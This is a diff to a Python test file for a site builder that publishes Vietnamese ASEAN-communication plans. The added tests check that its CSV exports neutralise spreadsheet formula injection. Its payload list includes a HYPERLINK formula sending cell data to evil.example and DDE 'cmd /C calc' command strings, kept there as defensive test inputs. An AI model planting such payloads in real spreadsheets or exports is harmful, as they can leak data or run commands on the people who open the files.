@@ -9,7 +9,8 @@ from pathlib import Path
 
 import feedparser
 import jsonschema
-from conftest import SITE_URL
+import pytest
+from conftest import SITE_URL, MiniProject
 from icalendar import Calendar
 
 
@@ -49,10 +50,12 @@ def test_activities_csv_round_trips(built_site: Path) -> None:
     soc = next(r for r in rows if r["plan_id"] == "soc-trang-2022" and r["activity_id"] == "I.1")
     assert soc["timeline_vi"] == "Thường xuyên trong năm 2022"
     assert soc["url_en"] == f"{SITE_URL}en/plans/soc-trang-2022/activities/i-1/"
+    # Texts are quoted, the years are numbers: written back the same way, the bytes match.
     out = io.StringIO()
-    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
+    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
     writer.writeheader()
-    writer.writerows(rows)
+    numbers = ("start_year", "end_year")
+    writer.writerows({k: int(v) if k in numbers and v else v for k, v in row.items()} for row in rows)
     assert ("\ufeff" + out.getvalue()).encode("utf-8") == raw
 
 
@@ -82,3 +85,113 @@ def test_calendar_parses(built_site: Path) -> None:
     assert all("UID" in e and "DTSTAMP" in e for e in events)
     deadlines = [e for e in events if "Reporting deadline" in str(e["SUMMARY"])]
     assert any(e["DTSTART"].dt.month == 11 and e["DTSTART"].dt.day == 15 for e in deadlines)
+
+
+# ── CSV formula injection (OWASP): text cells are never formulas ────────────────────
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]
+PAYLOADS = {
+    "plan_title_vi": '=HYPERLINK("https://evil.example/?"&A1,"Bấm")',
+    "name_vi": "+cmd|' /C calc'!A0",
+    "name_en": "-2+3+cmd|' /C calc'!A0",
+    "group_name_vi": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "lead_vi": '=1+2";=1+2',  # OWASP's own example
+    "timeline_en": "In 2022;=1+2",
+}
+
+
+def _csv_rows(raw: bytes) -> list[list[str]]:
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def _yaml(text: str) -> str:
+    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar
+
+
+def _csv_project(mini: MiniProject) -> object:
+    from site_builder.project import check_project
+
+    plan = "plans/soc-trang-2022.yaml"
+    mini.replace(plan, '{vi: "Kế hoạch tuyên truyền, quảng bá ASEAN năm 2022"',
+                 "{vi: " + _yaml(PAYLOADS["plan_title_vi"]))
+    mini.replace(plan, '{vi: "Tuyên truyền về các sự kiện quan trọng của ASEAN", en: "Communicate about major ASEAN events"}',
+                 "{vi: " + _yaml(PAYLOADS["name_vi"]) + ", en: " + _yaml(PAYLOADS["name_en"]) + "}")
+    mini.replace(plan, '{vi: "Tuyên truyền thường xuyên"', "{vi: " + _yaml(PAYLOADS["group_name_vi"]))
+    mini.replace(plan, 'text: {vi: "Sở Thông tin và Truyền thông"', "text: {vi: " + _yaml(PAYLOADS["lead_vi"]))
+    mini.replace(plan, 'en: "Ongoing throughout 2022"', "en: " + _yaml(PAYLOADS["timeline_en"]))
+    mini.write("plans/progress/soc-trang-2022-2022.yaml", """plan: soc-trang-2022
+year: 2022
+example: true
+reported_by: soc-trang-so-thong-tin-va-truyen-thong
+updated: 2022-11-15
+records:
+  - activity: I.1
+    status: in-progress
+    progress: 40
+    done: {vi: "=1+1", en: "@A1"}
+    reporting_agency: soc-trang-so-thong-tin-va-truyen-thong
+    updated: 2022-11-15
+""")
+    project, problems = check_project(mini.root)
+    assert project is not None, [p.format() for p in problems.errors]
+    return project
+
+
+def test_csv_text_cells_cannot_be_formulas(mini: MiniProject) -> None:
+    """Every text cell that starts with = + - @ gets a leading quote; texts are quoted, so
+    a semicolon inside one cannot start a new cell; years and percentages stay numbers."""
+    from site_builder.exports.api import CSV_COLUMNS, activities_csv
+    from site_builder.index import SiteIndex
+
+    project = _csv_project(mini)
+    raw = activities_csv(project, SiteIndex(project.data), "https://example.org/")
+    rows = _csv_rows(raw)
+    assert rows[0] == CSV_COLUMNS
+    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
+    cells = dict(zip(CSV_COLUMNS, rows[1], strict=True))
+    for column, payload in PAYLOADS.items():
+        expected = payload if column == "timeline_en" else "'" + payload
+        assert cells[column] == expected, column
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(tuple(TRIGGERS)), cell
+    text = raw.decode("utf-8-sig")
+    assert ',"\'=1+2"";=1+2",' in text  # OWASP's escaped form: quoted whole, inner quotes doubled
+    assert ',"In 2022;=1+2",' in text
+    assert ',2022,2022,' in text  # start_year, end_year: numbers, unquoted
+
+
+def test_progress_csv_cells_cannot_be_formulas(mini: MiniProject) -> None:
+    from site_builder.exports.api import progress_csv
+    from site_builder.index import SiteIndex
+
+    project = _csv_project(mini)
+    raw = progress_csv(project, SiteIndex(project.data))
+    rows = _csv_rows(raw)
+    header = rows[0]
+    assert all(len(row) == len(header) for row in rows)
+    done = next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[2] == "I.1")
+    assert (done["done_vi"], done["done_en"], done["progress"]) == ("'=1+1", "'@A1", "40")
+    line = next(line for line in raw.decode("utf-8-sig").splitlines() if '"I.1"' in line)
+    assert line.startswith('"soc-trang-2022",2022,"I.1"')  # the year is a number
+    assert ',40,' in line  # and so is the percentage
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_every_formula_trigger_is_neutralised(mini: MiniProject, trigger: str) -> None:
+    """Also characters the models strip today (tab, line breaks): the CSV does not rely on
+    the data's validation to be safe, so the texts are put in past it."""
+    from site_builder.exports.api import CSV_COLUMNS, activities_csv
+    from site_builder.index import SiteIndex
+    from site_builder.model import Text
+
+    project = _csv_project(mini)
+    plan = project.data.plans["soc-trang-2022"]
+    payload = trigger + "1+1"
+    activity = plan.appendix.activities[1].model_copy(update={"name": Text.model_construct(vi=payload, en=payload)})
+    appendix = plan.appendix.model_copy(update={"activities": [plan.appendix.activities[0], activity]})
+    project.data.plans["soc-trang-2022"] = plan.model_copy(update={"appendix": appendix})
+    rows = _csv_rows(activities_csv(project, SiteIndex(project.data), "https://example.org/"))
+    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
+    cells = dict(zip(CSV_COLUMNS, rows[2], strict=True))
+    assert cells["name_vi"] == cells["name_en"] == "'" + payload
